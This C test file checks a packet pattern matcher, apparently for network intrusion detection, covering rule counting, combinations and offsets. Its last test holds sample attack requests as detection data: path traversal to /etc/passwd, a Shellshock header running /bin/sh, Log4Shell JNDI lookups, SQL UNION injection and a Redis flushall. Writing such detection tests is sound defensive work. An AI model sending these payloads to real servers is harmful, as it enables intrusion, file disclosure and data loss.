// lib/match/matcher.c: what is a match event, and scanning.

#include "match/matcher.h"

#include <criterion/criterion.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define COUNT(a) (sizeof(a) / sizeof((a)[0]))

struct fixture {
	struct ruleset *rs;
	struct matcher *m;
	struct match_scratch *s;
};

static struct fixture make(const char *text) {
	static const struct matcher_config conf = {};
	struct err err = {};
	struct fixture f = {.rs = ruleset_new()};
	cr_assert_eq(ruleset_add_text(f.rs, "t.hs", text, strlen(text), &err), 0, "%s", err.text);
	f.m = matcher_new(f.rs, &conf, &err);
	cr_assert_not_null(f.m, "%s", err.text);
	f.s = match_scratch_new(f.m);
	cr_assert_not_null(f.s);
	return f;
}

static void drop(struct fixture *f) {
	match_scratch_free(f->s);
	matcher_free(f->m);
	ruleset_free(f->rs);
}

static uint32_t scan(const struct fixture *f, const char *text) {
	return matcher_scan(f->m, f->s, (const uint8_t *)text, (uint32_t)strlen(text));
}

Test(matcher, a_rule_counts_once_however_many_ends_it_has) {
	char text[101];
	memset(text, 'a', 100);
	text[100] = '\0';
	// Plain, already single, with start of match, approximate, and with alternatives.
	static const char *const t[] = {
		"1:/a/",        "1:/a/H",  "1:/a+/L",  "1:/aba/{edit_distance=1}",
		"1:/a|aa|aaa/", "1:/a*/V", "1:/.*a/s", "1:/a/P",
	};
	for (unsigned i = 0; i < COUNT(t); i++) {
		struct fixture f = make(t[i]);
		cr_assert_eq(
			f.rs->n_patterns, 1u, "%s: %s", t[i],
			f.rs->n_refusals > 0 ? f.rs->refusals[0].reason : ""
		);
		cr_assert_eq(scan(&f, text), 1u, "%s", t[i]);
		cr_assert_eq(scan(&f, text), 1u, "%s, the next packet", t[i]);
		drop(&f);
	}
}

Test(matcher, distinct_rules_count_one_each) {
	struct fixture f = make("10:/abc/\n20:/bcd/i\n30:/xyz/\n4000000000:/c.*f/s\n");
	cr_assert_eq(matcher_rules(f.m), 4u);
	cr_assert_eq(scan(&f, "abcdef"), 3u);
	cr_assert_eq(scan(&f, "xyz"), 1u);
	cr_assert_eq(scan(&f, "BCD"), 1u);
	cr_assert_eq(scan(&f, "nothing"), 0u);
	cr_assert_eq(scan(&f, "abcdef xyz abcdef xyz"), 4u);
	drop(&f);
}

Test(matcher, two_rules_of_one_expression_are_two) {
	struct fixture f = make("1:/abc/\n2:/abc/\n");
	cr_assert_eq(scan(&f, "abc abc"), 2u);
	drop(&f);
}

Test(matcher, one_id_in_two_files_is_two_rules) {
	static const struct matcher_config conf = {};
	struct err err = {};
	struct fixture f = {.rs = ruleset_new()};
	// The second file's combination is of its own id 1.
	static const char a[] = "1:/abc/\n", b[] = "1:/xyz/Q\n2:/foo/Q\n3:/1&2/C\n";
	cr_assert_eq(ruleset_add_text(f.rs, "a", a, sizeof(a) - 1, &err), 0);
	cr_assert_eq(ruleset_add_text(f.rs, "b", b, sizeof(b) - 1, &err), 0);
	f.m = matcher_new(f.rs, &conf, &err);
	cr_assert_not_null(f.m, "%s", err.text);
	f.s = match_scratch_new(f.m);
	cr_assert_eq(scan(&f, "abc"), 1u);
	cr_assert_eq(scan(&f, "abc foo"), 1u);
	cr_assert_eq(scan(&f, "xyz foo"), 1u);
	cr_assert_eq(scan(&f, "xyz foo abc"), 2u);
	drop(&f);
}

Test(matcher, an_empty_payload_has_no_events) {
	struct fixture f = make("1:/a*/V\n2:/^/V\n");
	cr_assert_eq(matcher_rules(f.m), 2u);
	cr_assert_eq(matcher_scan(f.m, f.s, NULL, 0), 0u);
	cr_assert_eq(scan(&f, "b"), 2u);
	drop(&f);
}

Test(matcher, an_empty_set_never_matches) {
	struct fixture f = make("# nothing\n");
	cr_assert_eq(matcher_rules(f.m), 0u);
	cr_assert_eq(matcher_bytes(f.m), 0u);
	cr_assert_not(matcher_from_cache(f.m));
	cr_assert_eq(scan(&f, "abc"), 0u);
	drop(&f);
}

Test(matcher, a_set_that_is_refused_wholly_never_matches) {
	struct fixture f = make("1:/a(?=b)/\n2:/(/\n");
	cr_assert_eq(matcher_rules(f.m), 0u);
	cr_assert_eq(f.rs->n_refusals, 2u);
	cr_assert_eq(scan(&f, "abc"), 0u);
	drop(&f);
}

Test(matcher, quiet_patterns_never_report) {
	struct fixture f = make("1:/abc/Q\n");
	cr_assert_eq(matcher_rules(f.m), 1u);
	cr_assert_eq(scan(&f, "abc"), 0u);
	drop(&f);
	f = make("1:/abc/Q\n2:/bcd/\n3:/1|2/CQ\n");
	cr_assert_eq(scan(&f, "abcd"), 1u);
	drop(&f);
}

Test(matcher, combinations_report_by_the_ids_of_the_file) {
	struct fixture f = make("900:/900000000 & 4000000000/C\n4000000000:/xyz/Q\n"
				"900000000:/abc/Q\n7:/900000000|4000000000/C\n8:/plain/\n");
	cr_assert_eq(
		matcher_rules(f.m), 5u, "%s", f.rs->n_refusals > 0 ? f.rs->refusals[0].reason : ""
	);
	cr_assert_eq(scan(&f, "abc"), 1u);
	cr_assert_eq(scan(&f, "xyz"), 1u);
	cr_assert_eq(scan(&f, "xyz abc"), 2u);
	cr_assert_eq(scan(&f, "abc xyz abc xyz plain"), 3u);
	cr_assert_eq(scan(&f, "plain"), 1u);
	drop(&f);
}

Test(matcher, a_combinations_parts_are_seen_every_time) {
	// Had part 1 been made to report once only, its second match could not complete "1 & 2" behind
	// min_offset.
	struct fixture f = make("1:/abc/Q\n2:/xyz/Q\n3:/1&2/C{min_offset=12}\n");
	cr_assert_eq(scan(&f, "abcxyz"), 0u);
	cr_assert_eq(scan(&f, "abcxyz......abc"), 1u);
	drop(&f);
}

Test(matcher, extended_parameters_bound_the_match) {
	struct fixture f = make("1:/abc/{min_offset=6}\n2:/abc/{max_offset=3}\n"
				"3:/a.*c/s{min_length=5}\n4:/kitten/{edit_distance=1}\n"
				"5:/kitten/{hamming_distance=1}\n");
	cr_assert_eq(matcher_rules(f.m), 5u);
	cr_assert_eq(scan(&f, "abc"), 1u);
	cr_assert_eq(scan(&f, "..abc"), 0u);
	cr_assert_eq(scan(&f, "...abc"), 1u);
	cr_assert_eq(scan(&f, "abcabc"), 3u);
	cr_assert_eq(scan(&f, "mitten"), 2u);
	cr_assert_eq(scan(&f, "kiten"), 1u);
	drop(&f);
}

Test(matcher, the_packet_is_looked_at_alone) {
	struct fixture f = make("1:/abcdef/\n2:/^abc/\n3:/f$/\n");
	cr_assert_eq(scan(&f, "abc"), 1u);
	cr_assert_eq(scan(&f, "def"), 1u);
	cr_assert_eq(scan(&f, "abcdef"), 3u);
	drop(&f);
}

Test(matcher, a_payload_with_any_octets_is_scanned_to_its_end) {
	struct fixture f = make("1:/\\x00\\xff\\x00/\n2:/\\x{263a}/8\n");
	static const uint8_t data[] = {0xc3, 0x28, 0, 0, 0xff, 0, 0xe2, 0x98, 0xba};
	cr_assert_eq(matcher_scan(f.m, f.s, data, sizeof(data)), 2u);
	cr_assert_eq(matcher_scan(f.m, f.s, data, 5), 0u);
	drop(&f);
}

Test(matcher, matchers_live_beside_each_other) {
	struct fixture a = make("1:/abc/\n"), b = make("1:/abc/\n2:/b/\n");
	for (int i = 0; i < 3; i++) {
		cr_assert_eq(scan(&a, "abc"), 1u);
		cr_assert_eq(scan(&b, "abc"), 2u);
	}
	drop(&a);
	cr_assert_eq(scan(&b, "abc"), 2u);
	drop(&b);
}

Test(matcher, half_made_and_no_objects_are_freed) {
	matcher_free(NULL);
	match_scratch_free(NULL);
	ruleset_free(NULL);
}

Test(matcher, the_example_rules_are_accepted_and_each_finds_what_it_is_for) {
	static const struct {
		uint32_t events;
		const char *payload;
		uint32_t len;
	} t[] = {
#define PAYLOAD(events, text) {events, text, sizeof(text) - 1}
		// Request line; the same and who asks.
		PAYLOAD(1, "GET /a/b?c=d HTTP/1.1\r\nHost: x\r\n\r\n"),
		PAYLOAD(2, "GET / HTTP/1.1\r\nUser-Agent: curl/7.88\r\n\r\n"),
		PAYLOAD(1, "HTTP/1.1 200 OK\r\n\r\n"),
		PAYLOAD(2, "HTTP/1.0 503 Service Unavailable\r\n\r\n"),
		PAYLOAD(1,
			"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07"
			"example\x03"
			"com\x00\x00\x01\x00\x01"),
		PAYLOAD(1,
			"\x12\x34\x01\x20\x00\x01\x00\x00\x00\x00\x00\x01\x07"
			"example\x03"
			"com\x00\x00\x1c\x00\x01\x00\x00\x29\x04\xd0\x00\x00\x00\x00\x00\x00"),
		PAYLOAD(1,
			"\x12\x34\x81\x83\x00\x01\x00\x00\x00\x00\x00\x00\x01x\x00\x00\x01\x00\x01"
		),
		PAYLOAD(0,
			"\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x01x\x00\x00\x01\x00\x01"
		),
		// ClientHello with a server name; ServerHello of TLS 1.0, of TLS 1.2.
		PAYLOAD(2,
			"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03................"
			"\x00\x00\x00\x10\x00\x0e\x00\x00\x0bexample.com\x00\x17"),
		PAYLOAD(2, "\x16\x03\x01\x00\x59\x02\x00\x00\x55\x03\x01................"),
		PAYLOAD(1, "\x16\x03\x03\x00\x59\x02\x00\x00\x55\x03\x03................"),
		PAYLOAD(1, "SSH-2.0-OpenSSH_9.2p1 Debian-2\r\n"),
		PAYLOAD(1, "SSH-1.5-old\r\n"),
		PAYLOAD(1, "*2\r\n$3\r\nGET\r\n$3\r\nkey\r\n"),
		PAYLOAD(1, "*1\r\n$8\r\nflushall\r\n"),
		PAYLOAD(2, "GET / HTTP/1.1\r\nAuthorization: Basic dXNlcjpwYXNz\r\n\r\n"),
		PAYLOAD(1, "PASS secret\r\n"),
		PAYLOAD(2, "GET /login?user=a&password=b HTTP/1.1\r\n\r\n"),
		PAYLOAD(2, "GET /../../etc/passwd HTTP/1.1\r\n\r\n"),
		PAYLOAD(2, "GET /%2e%2e%2f%2E%2E%2fetc/passwd HTTP/1.1\r\n\r\n"),
		PAYLOAD(3, "GET / HTTP/1.1\r\nX: () { :; }; /bin/sh -c id\r\n\r\n"),
		PAYLOAD(2, "GET /${jndi:ldap://x/a} HTTP/1.1\r\n\r\n"),
		PAYLOAD(2, "GET /${${lower:j}ndi:ldap://x/a} HTTP/1.1\r\n\r\n"),
		PAYLOAD(2, "GET /?id=1+UNION+ALL+SELECT+1 HTTP/1.1\r\n\r\n"),
		// The request line, the password and both parts of the combination.
		PAYLOAD(3, "POST /in HTTP/1.1\r\n\r\nx&user=me&passwd=secret"),
		PAYLOAD(1, "POST /in HTTP/1.1\r\n\r\nnothing"),
		PAYLOAD(0, "user=me"),
	};
	static const struct matcher_config conf = {};
	struct err err = {};
	struct fixture f = {.rs = ruleset_new()};
	cr_assert_eq(
		ruleset_add_file(f.rs, SOURCE_ROOT "/conf/rules/example.hs", &err), 0, "%s",
		err.text
	);
	f.m = matcher_new(f.rs, &conf, &err);
	cr_assert_not_null(f.m, "%s", err.text);
	f.s = match_scratch_new(f.m);
	cr_assert_eq(
		f.rs->n_refusals, 0u, "%s", f.rs->n_refusals > 0 ? f.rs->refusals[0].reason : ""
	);
	cr_assert_eq(matcher_rules(f.m), 26u);
	for (unsigned i = 0; i < COUNT(t); i++) {
		uint32_t got = matcher_scan(f.m, f.s, (const uint8_t *)t[i].payload, t[i].len);
		cr_assert_eq(
			got, t[i].events, "%u: %u events, not %u: %s", i, got, t[i].events,
			t[i].payload
		);
	}
	drop(&f);
}

Test(matcher, tells_which_rules_matched) {
	struct fixture f = make("10:/abc/\n20:/bcd/i\n30:/(/\n40:/xyz/\n");
	cr_assert_eq(matcher_rules(f.m), 3u, "one is refused, the others move up");
	cr_assert_eq(scan(&f, "xyz abc xyz"), 2u);
	const uint32_t *rules = match_scratch_rules(f.s);
	uint32_t a = f.rs->patterns[rules[0]].id, b = f.rs->patterns[rules[1]].id;
	cr_assert((a == 10 && b == 40) || (a == 40 && b == 10), "%u and %u", a, b);
	cr_assert_eq(scan(&f, "BCD"), 1u);
	cr_assert_eq(f.rs->patterns[match_scratch_rules(f.s)[0]].id, 20u);
	drop(&f);
}

Test(matcher, has_room_for_all_rules_at_once) {
	char text[64 * 16];
	size_t n = 0;
	for (int i = 0; i < 33; i++)
		n += (size_t)sprintf(text + n, "%d:/a/\n", 100 + i);
	struct fixture f = make(text);
	cr_assert_eq(scan(&f, "a"), 33u);
	uint64_t seen = 0;
	for (int i = 0; i < 33; i++)
		seen |= UINT64_C(1) << (f.rs->patterns[match_scratch_rules(f.s)[i]].id - 100);
	cr_assert_eq(seen, (UINT64_C(1) << 33) - 1);
	drop(&f);
}
